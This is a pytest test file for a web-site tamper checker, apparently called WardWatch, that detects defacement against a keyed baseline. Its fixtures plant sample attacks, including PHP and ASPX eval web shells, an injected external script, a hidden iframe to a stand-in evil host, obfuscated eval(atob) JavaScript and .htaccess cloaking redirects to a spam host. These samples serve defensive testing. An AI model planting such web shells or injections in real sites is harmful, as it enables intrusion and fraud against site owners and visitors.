"""The web site tamper check: a keyed baseline, file changes, content checks, refusals; the site is never changed."""
from __future__ import annotations

import hashlib
import json
import random
from pathlib import Path

import pytest
from typer.testing import CliRunner

from wardwatch.cli import app


def _site(root: Path) -> Path:
    site = root / "site"
    (site / "js").mkdir(parents=True)
    (site / "news").mkdir()
    (site / "index.html").write_text('<html><head><script src="https://www.googletagmanager.com/gtag/js?id=G-1">'
                                     '</script><script src="/js/app.js"></script></head><body><h1>外来のご案内</h1>'
                                     '</body></html>\n', encoding="utf-8")
    (site / "js" / "app.js").write_text("document.querySelector('h1').textContent += '';\n", encoding="utf-8")
    (site / "news" / "2026.html").write_text("<p>この建物は市が所有しています (owned by the city).</p>\n", encoding="utf-8")
    (site / "contact.php").write_text("<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>\n", encoding="utf-8")
    (site / ".htaccess").write_text("RewriteEngine On\nRewriteRule ^old$ /new [R=301,L]\n", encoding="utf-8")
    return site


def _tree(root: Path) -> dict[str, str]:
    return {p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


def _run(*args: str) -> tuple[int, str]:
    res = CliRunner().invoke(app, list(args))
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    return res.exit_code, res.output


def _baseline(tmp: Path, site: Path) -> Path:
    code, out = _run("web", "baseline", str(site), "--out", str(tmp / "base.json"), "--host", "www.example-hospital.jp")
    assert code == 0, out
    assert "www.googletagmanager.com" in out  # the outside host it now trusts is named
    return tmp / "base.json"


def test_unchanged_site_is_clean_and_never_touched(tmp_path: Path) -> None:
    site = _site(tmp_path)
    base = _baseline(tmp_path, site)
    before = _tree(site)
    code, out = _run("web", "check", str(site), "--baseline", str(base), "--out", str(tmp_path / "out"), "--lang", "en")
    assert code == 0, out
    assert "0 added, 0 changed, 0 removed; 0 finding(s)" in out
    assert json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))["findings"] == []
    assert _tree(site) == before


def test_defaced_copy_is_found_file_by_file(tmp_path: Path) -> None:
    site = _site(tmp_path)
    base = _baseline(tmp_path, site)
    with (site / "index.html").open("a", encoding="utf-8") as fh:
        fh.write('<script src="//cdn-stat.example.ru/s.js"></script>\n'
                 '<iframe src="http://evil.example.net/x" width="0" height="0"></iframe>\n')
    (site / "js" / "app.js").write_text("eval(atob('ZG9jdW1lbnQud3JpdGUoMSk='));\n", encoding="utf-8")
    (site / "news" / "img.php").write_text("<?php @eval($_POST['pass']); ?>\n", encoding="utf-8")
    (site / "upload.aspx").write_text('<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\n',
                                      encoding="utf-8")
    (site / ".htaccess").write_text("RewriteEngine On\nRewriteCond %{HTTP_REFERER} (google|yahoo) [NC]\n"
                                    "RewriteRule ^(.*)$ http://pharma.example.com/ [R=302,L]\n", encoding="utf-8")
    (site / "news" / "2026.html").unlink()
    (site / "hacked.html").write_text("<h1>Hacked By Nobody</h1>\n", encoding="utf-8")
    before = _tree(site)
    code, out = _run("web", "check", str(site), "--baseline", str(base), "--out", str(tmp_path / "out"))
    assert code == 1, out
    doc = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    files = {f["rule"]: {p["file"] for p in f["facts"].get("places", [])} or set(f["facts"].get("files", []))
             for f in doc["findings"]}
    assert files["web.script-injected"] == {"index.html"} and files["web.iframe-injected"] == {"index.html"}
    assert files["web.obfuscated-js"] == {"js/app.js"}
    assert files["web.webshell"] == {"news/img.php", "upload.aspx"}
    assert files["web.redirect"] == {".htaccess"} and files["web.cloaking"] == {".htaccess"}
    assert files["web.defacement-text"] == {"hacked.html"}
    assert files["web.file-added"] == {"news/img.php", "upload.aspx", "hacked.html"}
    assert files["web.file-changed"] == {"index.html", "js/app.js", ".htaccess"}
    assert files["web.file-removed"] == {"news/2026.html"}
    severities = {f["rule"]: f["severity"] for f in doc["findings"]}
    assert severities["web.webshell"] == "critical" and severities["web.file-removed"] == "low"
    hosts = {h for f in doc["findings"] for h in f["facts"].get("hosts", [])}
    assert hosts == {"cdn-stat.example.ru", "evil.example.net", "pharma.example.com"}  # not the trusted GA host
    assert _tree(site) == before


def test_look_alikes_stay_quiet(tmp_path: Path) -> None:
    site = _site(tmp_path)
    base = _baseline(tmp_path, site)
    (site / "news" / "2027.html").write_text('<script src="https://www.example-hospital.jp/js/app.js"></script>'
                                             '<p>owned by the city</p>\n', encoding="utf-8")
    (site / "calc.php").write_text("<?php $x = eval('return 1+1;'); echo $x; ?>\n", encoding="utf-8")
    code, out = _run("web", "check", str(site), "--baseline", str(base), "--out", str(tmp_path / "out"))
    doc = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    assert {f["rule"] for f in doc["findings"]} == {"web.file-added"}, out
    assert code == 1


@pytest.mark.parametrize("change", ["size", "file", "hosts", "key"])
def test_changed_baseline_or_missing_key_is_refused(tmp_path: Path, change: str) -> None:
    site = _site(tmp_path)
    base = _baseline(tmp_path, site)
    data = json.loads(base.read_text(encoding="utf-8"))
    if change == "size":
        data["files"]["index.html"]["size"] += 1
    elif change == "file":
        del data["files"]["contact.php"]
    elif change == "hosts":
        data["hosts"].append("evil.example.ru")
    base.write_text(json.dumps(data), encoding="utf-8")
    if change == "key":
        (tmp_path / "base.json.key").unlink()
    code, out = _run("web", "check", str(site), "--baseline", str(base))
    assert code == 2 and "base.json" in out
    assert ("key" in out) if change == "key" else ("changed after it was made" in out)


def test_existing_baseline_is_not_overwritten_and_not_a_baseline_is_named(tmp_path: Path) -> None:
    site = _site(tmp_path)
    base = _baseline(tmp_path, site)
    code, out = _run("web", "baseline", str(site), "--out", str(base))
    assert code == 2 and "--force" in out
    other = tmp_path / "other.json"
    other.write_text('{"files": {}}', encoding="utf-8")
    code, out = _run("web", "check", str(site), "--baseline", str(other))
    assert code == 2 and "not a WardWatch web baseline" in out


def test_fuzzed_site_files_never_crash(tmp_path: Path) -> None:
    rng = random.Random(20261205)
    site = tmp_path / "site"
    site.mkdir()
    names = ["a.html", "b.php", "c.js", ".htaccess", "web.config", "d.aspx", "e.jsp", "f.txt", "g.bin"]
    pieces = ["<script", " src=", "//x.example/", "eval(", "atob(", "$_POST", "<iframe", "RewriteRule ", "http://",
              "\x00", "\udcff", ">", "'", '"', "A" * 50, "\n", "RewriteCond %{HTTP_REFERER} ", "hacked by "]
    for n in range(300):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 400)))
        (site / f"{n}-{rng.choice(names)}").write_bytes(text.encode("utf-8", "surrogatepass"))
    (site / "long.html").write_text("<script " + "a" * 200_000, encoding="utf-8")
    _baseline_ok = _run("web", "baseline", str(site), "--out", str(tmp_path / "base.json"))
    assert _baseline_ok[0] in (0, 1)
    for p in list(site.iterdir())[:100]:
        p.write_bytes(p.read_bytes()[::-1])
    code, out = _run("web", "check", str(site), "--baseline", str(tmp_path / "base.json"), "--out", str(tmp_path / "o"))
    assert code in (0, 1) and "Traceback" not in out
    json.loads((tmp_path / "o" / "findings.json").read_text(encoding="utf-8"))


def test_a_web_shell_already_there_is_named_when_the_baseline_is_made(tmp_path: Path) -> None:
    site = _site(tmp_path)
    (site / "up.php").write_text("<?php @eval($_POST['x']); ?>\n", encoding="utf-8")
    code, out = _run("web", "baseline", str(site), "--out", str(tmp_path / "base.json"))
    assert code == 1 and "web.webshell" in out and "up.php:1" in out


def test_every_web_finding_names_its_seed(tmp_path: Path) -> None:
    from wardwatch.web.site import web_specs
    assert {s.seed for s in web_specs().values()} == {"004 ⑤"}
